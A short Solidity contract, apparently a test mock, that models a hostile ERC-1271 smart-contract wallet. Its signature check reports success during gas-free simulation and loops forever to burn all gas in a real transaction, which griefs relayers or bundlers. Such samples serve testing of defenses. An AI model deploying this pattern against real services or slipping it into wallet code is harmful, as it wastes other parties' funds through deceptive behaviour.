// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.26;

/// A hostile ERC-1271 wallet: it agrees while nobody pays for gas (a simulation), and burns all gas in a real transaction.
contract GasBurner {
    function isValidSignature(bytes32, bytes calldata) external view returns (bytes4) {
        if (tx.gasprice > 0) while (true) {}
        return 0x1626ba7e;
    }
}
